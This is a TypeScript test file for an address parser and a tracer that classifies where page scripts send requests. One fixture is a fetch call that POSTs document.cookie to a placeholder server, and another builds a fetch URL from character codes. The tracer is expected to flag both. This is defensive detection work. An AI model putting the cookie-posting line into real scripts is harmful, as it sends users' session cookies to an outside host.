import { describe, expect, test } from "vitest";
import { sinksOf } from "../testing/trace-of.ts";
import { isHost } from "./site.ts";

describe("the host of an address", () => {
	test.each([
		"shop.example",
		"192.0.2.1",
		"[::1]",
		"localhost",
		"0x7f.1",
		"münchen.example",
		"c%2etest",
		"my_host.example",
	])("%s is one", (text) => {
		expect(isHost(text, false)).toBe(true);
	});

	test.each(["undefined", "null", "https", "script", "div[1]", 'id="ires"]', "a b", "*", ""])("%s is none", (text) => {
		expect(isHost(text, false)).toBe(false);
	});

	test("a single word counts after a scheme only", () => {
		expect(isHost("callbackhost", true)).toBe(true);
		expect(isHost("callbackhost", false)).toBe(false);
		expect(isHost("undefined", true)).toBe(false);
	});

	test.each([
		["an XPath passed to a library", 'tools.select("//script", { text: document.title })', []],
		["a scheme alone", 'tools.load("https", { text: document.title })', []],
		[
			"a host that is undefined",
			'const o = {}; fetch("https://" + o.host + "/a")',
			["request fetch > unresolved (purpose)"],
		],
		[
			"an address to be filled in",
			'fetch("<YOUR_SERVER_URL>", { method: "POST", body: document.cookie })',
			["request fetch > unresolved < body cookie (purpose)"],
		],
		["a path that only looks so", 'fetch("your/server/url.json")', ["request fetch > same-site (purpose)"]],
		["a path of the site", 'fetch("webhooks/list")', ["request fetch > same-site (purpose)"]],
	])("%s", (_title, code, sinks) => {
		expect(sinksOf(code)).toEqual(sinks);
	});

	test("a text made of numbers is no link of the page", () => {
		const made =
			'const n = JSON.parse(document.querySelector("#c").textContent); fetch(n.map((c) => String.fromCharCode(c)).join(""))';
		expect(sinksOf(made)).toEqual([expect.stringContaining("unresolved")]);
		expect(sinksOf('fetch(JSON.parse(document.querySelector("#c").textContent).url)')).toEqual([
			expect.stringContaining("page-given"),
		]);
	});
});
